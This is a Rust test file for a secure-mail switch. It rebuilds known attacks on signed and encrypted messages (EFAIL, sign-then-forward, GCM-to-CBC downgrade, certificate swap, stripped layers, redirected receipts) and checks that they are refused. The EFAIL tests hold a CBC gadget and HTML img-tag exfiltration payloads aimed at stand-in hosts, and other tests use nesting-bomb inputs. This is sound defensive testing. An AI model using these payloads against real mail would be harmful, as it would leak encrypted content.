//! Attacks on layered messages, each by its name: the naive reading falls for it, the switch does not.
//!
//! | attack | where it is tried |
//! |---|---|
//! | EFAIL, CBC gadget | `efail_gadget` |
//! | EFAIL, direct exfiltration | `efail_direct_exfiltration` |
//! | sign, then forward to somebody else | `sign_then_forward` |
//! | one part signed, another part shown | `one_part_signed_another_shown` |
//! | eContent confusion | `e_content_confusion` |
//! | GCM to CBC downgrade (RFC 9709) | `gcm_to_cbc_downgrade` |
//! | label only in the outer header | `label_only_in_the_outer_header` |
//! | huge nesting | `huge_nesting`; layers: `tests/invariants.rs` `a_messages_cost_is_bounded` |
//! | signer certificate swapped (ESSCertID) | `signer_certificate_swapped` |
//! | outer layer stripped | `outer_layer_stripped` |
//! | countersignature stripped | `countersignature_stripped`; at the border: `tests/invariants.rs` `a_message_without_the_release_it_owes_is_refused_at_the_border` |
//! | receipt redirected through a list layer that nobody authorised | `receipt_redirected`; `crypto::cms::receipt` `who_owes_a_receipt_and_to_whom` |
//! | signed attributes twice, with several values, missing | `crypto::cms::verify` `missing_repeated_and_several_values_break_the_signature` |
//! | attributes taken for content, without signed attributes | `tests/cms_openssl` `a_signature_over_attributes_is_not_a_signature_over_content` |
//! | algorithms substituted | `crypto::cms::verify` `protected_algorithms_must_be_those_used` |
//! | padding, key and tag oracles (Bleichenbacher, Manger, CBC) | `tests/oracle.rs`; `tests/cms_openssl` `every_failure_after_the_key_is_the_same_failure`, `oaep_is_read_and_pkcs1_and_sha1_agreement_are_refused` |

use std::path::Path;

use ravelin::cli::demo::World;
use ravelin::clock::{Clock, Timestamp};
use ravelin::crypto::algorithm::ContentCipher;
use ravelin::crypto::ber::{self, Node, Reader, Tag};
use ravelin::crypto::certificate::Certificate;
use ravelin::crypto::cms::attribute::AttributeDer;
use ravelin::crypto::cms::decrypt::decrypt;
use ravelin::crypto::cms::envelope::envelope;
use ravelin::crypto::cms::oid;
use ravelin::crypto::cms::read::{ContentInfo, Limits, parse};
use ravelin::crypto::cms::sign::{self, Form, SignOrder, Signer};
use ravelin::crypto::cms::verify::{self, SignatureProblem};
use ravelin::crypto::ess::{
    self, GeneralName, MailListExpansion, MailListHistory, MailListIdentifier, MailListReceipts,
};
use ravelin::crypto::keys::Identity;
use ravelin::crypto::lab::{Authority, Request, Usage};
use ravelin::label;
use ravelin::message::address::Address;
use ravelin::message::header::Limits as HeaderLimits;
use ravelin::message::mime::{Entity, multipart_signed, pkcs7_mime};
use ravelin::open::{Opener, Piece, facts};

#[allow(dead_code)]
#[path = "sealing/bench.rs"]
mod bench;

const FAILED: &str = "550 5.7.5 the message could not be decrypted (decryption.failed)";
const SECRET: &str = "The convoy passes the northern strait";

async fn world(dir: &Path) -> World {
    let mut world = World::found(dir, Clock::system(), "").await.unwrap();
    world.wake_alder().await.unwrap();
    world
}

fn addresses(text: &str) -> Vec<Address> {
    text.split(',')
        .map(|one| Address::parse(one).unwrap())
        .collect()
}

/// What the drafter writes and signs.
fn written(world: &World) -> Vec<u8> {
    let drafter = world.alder.person("drafter").unwrap();
    let label = world.label("SECRET", &[]).unwrap();
    let to = addresses("reader@alder.example");
    world
        .compose(&drafter.address, &to, Some(&label), &drafter.sign)
        .unwrap()
}

/// What the switch says when `who` hands this in.
async fn says(world: &World, who: &str, to: &str, message: &[u8]) -> String {
    let person = world.alder.person(who).unwrap();
    let outcome = world.submit(person, &addresses(to), message).await.unwrap();
    String::from_utf8(outcome.reply().to_bytes())
        .unwrap()
        .trim_end()
        .to_owned()
}

const HEAD: &str = "From: drafter@alder.example\r\nTo: reader@alder.example\r\n\
    Subject: Passage of the northern strait\r\nMIME-Version: 1.0\r\n";

fn message(entity: &[u8]) -> Vec<u8> {
    [HEAD.as_bytes(), entity].concat()
}

fn replaced(message: &[u8], from: &str, to: &str) -> Vec<u8> {
    let text = String::from_utf8(message.to_vec()).unwrap();
    assert!(text.contains(from), "{from:?} is not there");
    text.replacen(from, to, 1).into_bytes()
}

fn find(octets: &[u8], part: &[u8]) -> usize {
    octets
        .windows(part.len())
        .position(|window| window == part)
        .unwrap()
}

fn contains(octets: &[u8], part: &str) -> bool {
    octets.windows(part.len()).any(|w| w == part.as_bytes())
}

/// The label of a SECRET message as a signed attribute.
fn label(world: &World) -> AttributeDer {
    let label = world.label("SECRET", &[]).unwrap();
    ess::security_label(&label::ess::encode(&label).unwrap())
}

fn signed(
    content: &[u8],
    content_type: const_oid::ObjectIdentifier,
    signer: Signer<'_>,
) -> Vec<u8> {
    sign::sign(&SignOrder {
        content,
        content_type,
        form: Form::Attached,
        signers: &[signer],
        signing_time: Timestamp::now(),
        extra_certificates: &[],
    })
    .unwrap()
}

// Poddebniak and others, 2018: a CBC block is changed so that known plaintext becomes what the
// attacker wants, and a mail program that shows it sends the rest to the attacker.
#[tokio::test(flavor = "multi_thread")]
async fn efail_gadget() {
    const PLANTED: &[u8; 16] = b"<img src=//e.x/ ";
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let drafter = world.alder.person("drafter").unwrap();
    let good = written(&world);
    let own = [
        drafter.encrypt.certificate().clone(),
        world.alder.border_certificate().clone(),
    ];
    let cms = envelope(&good, &own, ContentCipher::Aes256Cbc).unwrap();
    let ContentInfo::Enveloped(data) = parse(&cms, &Limits::default()).unwrap() else {
        panic!("EnvelopedData");
    };
    let ciphertext = data.content.octets.clone().unwrap().into_owned();
    // The attacker guesses one block of the text; the block before it becomes noise.
    let block = find(&good, SECRET.as_bytes()).div_ceil(16) * 16;
    let mut changed = ciphertext.clone();
    for (index, wanted) in PLANTED.iter().enumerate() {
        changed[block - 16 + index] ^= good[block + index] ^ wanted;
    }
    let at = find(&cms, &ciphertext);
    let mut gadget = cms.clone();
    gadget[at..at + changed.len()].copy_from_slice(&changed);

    // The naive reading: it decrypts, and the planted text stands in front of the secret.
    let ContentInfo::Enveloped(data) = parse(&gadget, &Limits::default()).unwrap() else {
        panic!("EnvelopedData");
    };
    let plain = decrypt(&data, std::slice::from_ref(&drafter.encrypt)).unwrap();
    assert!(contains(&plain, "<img src=//e.x/ "));

    let sent = message(&pkcs7_mime("enveloped-data", &gadget).unwrap());
    assert_eq!(
        says(&world, "drafter", "reader@alder.example", &sent).await,
        FAILED
    );
    let sent = message(&pkcs7_mime("enveloped-data", &cms).unwrap());
    let reply = says(&world, "drafter", "reader@alder.example", &sent).await;
    assert!(reply.starts_with("250 "), "{reply}");
    world.end().await;
}

// The same paper: the ciphertext is put between two parts of the attacker's, and a mail program that
// joins the parts sends the plaintext away.
#[tokio::test(flavor = "multi_thread")]
async fn efail_direct_exfiltration() {
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let reader = world.alder.person("reader").unwrap();
    let victim = envelope(
        b"Content-Type: text/plain\r\n\r\nThe convoy passes the northern strait\r\n",
        &[
            reader.encrypt.certificate().clone(),
            world.alder.border_certificate().clone(),
        ],
        ContentCipher::Aes256Cbc,
    )
    .unwrap();
    let mut parts = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
        Content-Type: text/html\r\n\r\n<img src=\"http://e.example/\r\n--b\r\n"
        .to_vec();
    parts.extend(pkcs7_mime("enveloped-data", &victim).unwrap());
    parts.extend(b"--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n");
    let sent = message(&parts);
    // What is shown is the payload: the envelope in it is no layer of the message.
    let keys = [reader.encrypt.clone()];
    let opener = Opener {
        keys: (&keys).into(),
        trust: &world.alder_config.trust,
        policies: &world.alder_config.policies,
        at: Timestamp::now(),
        limits: HeaderLimits::default(),
    };
    let found = facts(&opener, Piece::whole(std::sync::Arc::new(sent.clone()))).unwrap();
    assert!(found.layers.is_empty());
    assert!(!contains(&found.text(), SECRET));
    let reply = says(&world, "drafter", "reader@alder.example", &sent).await;
    assert!(
        reply.starts_with("550 ") && !reply.contains("convoy"),
        "{reply}"
    );
    world.end().await;
}

// Davis, 2001: the reader encrypts the drafter's signed message again for somebody else, who takes it
// for a message of the drafter's to them.
#[tokio::test(flavor = "multi_thread")]
async fn sign_then_forward() {
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let good = written(&world);
    // The naive reading looks at the signature alone, and that stays good.
    let again = envelope(
        &good,
        &[world.alder.border_certificate().clone()],
        ContentCipher::Aes256Gcm,
    );
    let again = message(&pkcs7_mime("authEnveloped-data", &again.unwrap()).unwrap());
    let to = "officer@alder.example";
    let reply = says(&world, "reader", to, &again).await;
    assert!(reply.contains("(originator.mismatch)"), "{reply}");
    // Nor can the address outside be changed to that of the new victim.
    let readdressed = replaced(&again, "To: reader@", "To: officer@");
    let reply = says(&world, "drafter", to, &readdressed).await;
    assert!(reply.contains("(header.conflict)"), "{reply}");
    world.end().await;
}

// Müller and others, 2019 ("Johnny, you are fired"): a signed part stands somewhere, what is shown
// stands elsewhere.
#[tokio::test(flavor = "multi_thread")]
async fn one_part_signed_another_shown() {
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let good = written(&world);
    let entity = Entity::parse_all(&good, HeaderLimits::default()).unwrap();
    let part = &good[entity.headers.first("Content-Type").unwrap().range().start..];
    let mut beside = b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n\
        Content-Type: text/plain\r\n\r\nOpen the gate.\r\n--outer\r\n"
        .to_vec();
    beside.extend(part);
    beside.extend(b"\r\n--outer--\r\n");
    let reply = says(&world, "drafter", "reader@alder.example", &message(&beside)).await;
    assert!(reply.contains("(signature.missing)"), "{reply}");
    // A third part in multipart/signed.
    let boundary = entity.content_type.param("boundary").unwrap().to_owned();
    let third =
        format!("--{boundary}\r\nContent-Type: text/plain\r\n\r\nOpen the gate.\r\n--{boundary}--");
    let three = replaced(&good, &format!("--{boundary}--"), &third);
    let reply = says(&world, "drafter", "reader@alder.example", &three).await;
    assert!(reply.contains("(message.malformed)"), "{reply}");
    world.end().await;
}

// Content inside the signature part verifies and is not shown; or the content is not what it is
// read as.
#[tokio::test(flavor = "multi_thread")]
async fn e_content_confusion() {
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let drafter = world.alder.person("drafter").unwrap();
    let shown = b"Content-Type: text/plain\r\n\r\nOpen the gate.\r\n";
    let meant = b"Content-Type: text/plain\r\n\r\nKeep it shut.\r\n";
    let attached = signed(
        meant,
        oid::DATA,
        Signer::new(&drafter.sign, vec![label(&world)]),
    );
    let both = message(&multipart_signed(shown, "sha-384", &attached).unwrap());
    let reply = says(&world, "drafter", "reader@alder.example", &both).await;
    assert!(reply.contains("(message.malformed)"), "{reply}");
    // MIME under a type that is not MIME: a signature over something else, read as a message.
    for (content_type, good) in [(oid::DATA, true), (oid::ENVELOPED_DATA, false)] {
        let signer = Signer::new(&drafter.sign, vec![label(&world)]);
        let cms = signed(meant, content_type, signer);
        let sent = message(&pkcs7_mime("signed-data", &cms).unwrap());
        let reply = says(&world, "drafter", "reader@alder.example", &sent).await;
        let expected = if good { "250 " } else { "550 5.6.0 " };
        assert!(reply.starts_with(expected), "{content_type}: {reply}");
    }
    world.end().await;
}

// RFC 9709 §1: what was encrypted with GCM is sent again as CBC under the same key, to learn from what
// comes of it.
#[tokio::test(flavor = "multi_thread")]
async fn gcm_to_cbc_downgrade() {
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let drafter = world.alder.person("drafter").unwrap();
    let both = [
        drafter.encrypt.certificate().clone(),
        world.alder.border_certificate().clone(),
    ];
    // Content whose GCM ciphertext is, seen as CBC, a whole number of blocks.
    let mut good = written(&world);
    good.extend(std::iter::repeat_n(b' ', 16 - good.len() % 16));
    let cms = envelope(&good, &both, ContentCipher::Aes256Gcm).unwrap();
    let mut reader = Reader::new(&cms, ber::Limits::default())
        .sequence()
        .unwrap();
    reader.oid().unwrap();
    let explicit = reader.expect(Tag::context_constructed(0)).unwrap();
    let mut fields = explicit.only().unwrap().reader().unwrap();
    fields.next_element().unwrap().unwrap();
    let recipients = fields.expect(Tag::SET).unwrap().whole();
    let mut info = fields.sequence().unwrap();
    info.oid().unwrap();
    info.sequence().unwrap();
    let ciphertext = info.expect(Tag::context(0)).unwrap().contents();
    let downgraded = Node::sequence(vec![
        Node::oid(&oid::ENVELOPED_DATA),
        Node::explicit(
            0,
            Node::sequence(vec![
                Node::unsigned(2),
                Node::encoded(recipients),
                Node::sequence(vec![
                    Node::oid(&oid::DATA),
                    Node::sequence(vec![
                        Node::oid(&ContentCipher::Aes256Cbc.oid()),
                        Node::octet_string(&[0; 16][..]),
                    ]),
                    Node::tagged_bytes(Tag::context(0), ciphertext),
                ]),
            ]),
        ),
    ])
    .to_vec();
    let sent = message(&pkcs7_mime("enveloped-data", &downgraded).unwrap());
    assert_eq!(
        says(&world, "drafter", "reader@alder.example", &sent).await,
        FAILED
    );
    world.end().await;
}

// Everybody can write a header: only what a signature covers is a label.
#[tokio::test(flavor = "multi_thread")]
async fn label_only_in_the_outer_header() {
    let dir = tempfile::tempdir().unwrap();
    let world = world(dir.path()).await;
    let drafter = world.alder.person("drafter").unwrap();
    let to = addresses("reader@alder.example");
    let plain = world
        .compose(&drafter.address, &to, None, &drafter.sign)
        .unwrap();
    let der = label::ess::encode(&world.label("SECRET", &[]).unwrap()).unwrap();
    use base64::Engine;
    let text = base64::engine::general_purpose::STANDARD.encode(der);
    let field = format!("SIO-Label: marking=\"SECRET\"; type=\":ess\"; label=\"{text}\"\r\n");
    let labelled = [field.as_bytes(), &plain].concat();
    let reply = says(&world, "drafter", "reader@alder.example", &labelled).await;
    assert!(reply.contains("(label."), "{reply}");
    let reply = says(&world, "drafter", "reader@alder.example", &written(&world)).await;
    assert!(reply.starts_with("250 "), "{reply}");
    world.end().await;
}

#[test]
fn huge_nesting() {
    // A thousand multiparts in each other, ten thousand SEQUENCEs, a hundred thousand OCTET STRINGs:
    // a stack that grows with them ends the process.
    let mut multiparts = String::new();
    for level in 0..1_000 {
        multiparts.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=b{level}x\r\n\r\n--b{level}x\r\n"
        ));
    }
    assert!(Entity::parse_all(multiparts.as_bytes(), HeaderLimits::default()).is_err());
    let sequences = [0x30, 0x80].repeat(10_000);
    assert!(parse(&sequences, &Limits::default()).is_err());
    let mut strings = Node::octet_string(&b""[..]).to_vec();
    for _ in 0..1_000 {
        strings = Node::tagged_bytes(Tag(0x24), strings).to_vec();
    }
    let layer = Node::sequence(vec![
        Node::oid(&oid::SIGNED_DATA),
        Node::explicit(
            0,
            Node::sequence(vec![
                Node::unsigned(1),
                Node::tagged(Tag::SET, Vec::new()),
                Node::sequence(vec![
                    Node::oid(&oid::DATA),
                    Node::explicit(0, Node::encoded(&strings)),
                ]),
                Node::tagged(Tag::SET, Vec::new()),
            ]),
        ),
    ]);
    assert!(parse(&layer.to_vec(), &Limits::default()).is_err());
    let deep = b"Content-Type: message/rfc822\r\n\r\n".repeat(1_000);
    assert!(Entity::parse_all(&deep, HeaderLimits::default()).is_err());
}

// RFC 2634 §5.1: another certificate for the same key, with other rights, is put in the place of the
// signer's.
#[test]
fn signer_certificate_swapped() {
    let now = Clock::system().now();
    let authority = Authority::new("CN=Lab CA", now).unwrap();
    let clerk = authority
        .issue(Request::new("CN=Clerk", Usage::Sign, now).email("clerk@alder.example"))
        .unwrap();
    let own = clerk.certificate();
    let officer = authority
        .certify(
            &ravelin::crypto::lab::name_der("CN=Officer").unwrap(),
            own.spki_der(),
            now,
            now + std::time::Duration::from_secs(86_400),
            own.extensions().to_vec(),
        )
        .unwrap();
    let cms = signed(
        b"text",
        oid::DATA,
        Signer::new(&clerk, Vec::new()).by_key_identifier(),
    );
    let ContentInfo::Signed(data) = parse(&cms, &Limits::default()).unwrap() else {
        panic!("SignedData");
    };
    let report = |certificate: &Certificate| {
        let mut all = verify::verify(&data, None, std::slice::from_ref(certificate));
        all.pop().unwrap()
    };
    assert!(report(own).is_good());
    // The naive reading: the key identifier is the same, and the signature verifies under it.
    assert_eq!(officer.subject_key_id(), own.subject_key_id());
    let swapped = report(&officer);
    assert!(!swapped.is_good());
    assert!(
        swapped
            .problems
            .contains(&SignatureProblem::SigningCertificate)
    );
}

// The far side takes nothing whose outermost signature is not that of the domain it comes from.
#[test]
fn outer_layer_stripped() {
    let bench = bench::Bench::new();
    bench.seal(
        "wrapped.eml",
        "--profile triple-wrap --signer ann.pem --outer-signer switch.pem --recipient bob.crt",
    );
    // What stands inside the outer signature, sent on by itself under the same header.
    bench.yes(&["open", "wrapped.eml", "--layer", "0", "--out", "inside.eml"]);
    let whole = bench.read("wrapped.eml");
    let head = &whole[..find(&whole, b"MIME-Version")];
    bench.put("stripped.eml", [head, &bench.read("inside.eml")].concat());
    let signers = |name: &str| -> Vec<String> {
        let (_, view) = bench.inspect(name, "--key bob.pem");
        view["layers"][0]["signers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|signer| signer["email"].as_str().unwrap().to_owned())
            .collect()
    };
    // The naive reading: a good signature is in there somewhere. What `check` asks for is who signed
    // outermost, and that is nobody.
    let (code, view) = bench.inspect("stripped.eml", "--key bob.pem");
    assert_eq!(
        (code, &view["layers"][1]["signers"][0]["valid"]),
        (0, &true.into())
    );
    assert_eq!(signers("wrapped.eml"), ["switch@alder.example"]);
    assert!(signers("stripped.eml").is_empty());
}

// A countersignature is an unsigned attribute: whoever carries the message can take it off. The draft
// is then as if nobody had released it; nothing else says that somebody did.
#[test]
fn countersignature_stripped() {
    let bench = bench::Bench::new();
    bench.seal("draft.eml", "--profile clear-signed --signer ann.pem");
    bench.yes(&[
        "countersign",
        "draft.eml",
        "--signer",
        "officer.pem",
        "--out",
        "released.eml",
    ]);
    let by = |name: &str| {
        let (code, view) = bench.inspect(name, "");
        assert_eq!(code, 0);
        let all = view["layers"][0]["signers"][0]["countersigners"].clone();
        all.as_array().unwrap().len()
    };
    assert_eq!((by("released.eml"), by("draft.eml")), (1, 0));
    // A field that claims the release stands for nothing: it must stand under the signature, and those
    // whom it names must have signed.
    let claimed = [
        &b"MMHS-Authorizing-Users: officer@alder.example\r\n"[..],
        &bench.read("draft.eml"),
    ]
    .concat();
    bench.put("claimed.eml", claimed);
    let (_, view) = bench.inspect("claimed.eml", "");
    let protected = view["headers"]["protected"].to_string();
    assert!(!protected.contains("MMHS-Authorizing-Users"), "{protected}");
    assert_eq!(by("claimed.eml"), 0);
}

// RFC 2634 §6: a layer around the message with a mail-list history sends the receipt elsewhere.
#[test]
fn receipt_redirected() {
    let bench = bench::Bench::new();
    bench.seal(
        "asked.eml",
        "--profile opaque-signed --signer ann.pem --receipt-to ann@alder.example",
    );
    let asked = bench.read("asked.eml");
    let entity = Entity::parse_all(&asked, HeaderLimits::default()).unwrap();
    let inner = &asked[entity.headers.first("Content-Type").unwrap().range().start..];
    let eve = Identity::load_pem(&bench.path("cat.pem"), &bench.path("cat.pem"), None).unwrap();
    let history = MailListHistory(vec![MailListExpansion {
        list: MailListIdentifier::IssuerAndSerial(eve.certificate().issuer_and_serial_der()),
        time: Timestamp::now(),
        policy: Some(MailListReceipts::InsteadOf(vec![vec![GeneralName::Email(
            "eve@alder.example".to_owned(),
        )]])),
    }]);
    let cms = signed(
        inner,
        oid::DATA,
        Signer::new(&eve, vec![history.attribute()]),
    );
    let around = [
        &asked[..find(&asked, b"MIME-Version")],
        &b"MIME-Version: 1.0\r\n"[..],
        &pkcs7_mime("signed-data", &cms).unwrap(),
    ]
    .concat();
    bench.put("around.eml", around);
    let make = |message: &str, more: &[&str]| {
        let mut arguments = vec![
            "receipt",
            "make",
            message,
            "--signer",
            "officer.pem",
            "--trust",
            "ca.crt",
            "--out",
            "r.eml",
        ];
        arguments.extend(more);
        bench.run(&arguments)
    };
    // Every signature in it is good; the layer is by somebody who is no mail list.
    let (code, _, err) = make("around.eml", &[]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("mail list agent") && !bench.is_there("r.eml"),
        "{err}"
    );
    // Without that layer the receipt goes to whom the drafter named; with a list that is known, to
    // whom that list names.
    assert_eq!(make("asked.eml", &[]).0, 0);
    assert!(contains(&bench.read("r.eml"), "To: ann@alder.example"));
    assert_eq!(make("around.eml", &["--mail-list", "cat.crt"]).0, 0);
    assert!(contains(&bench.read("r.eml"), "To: eve@alder.example"));
}
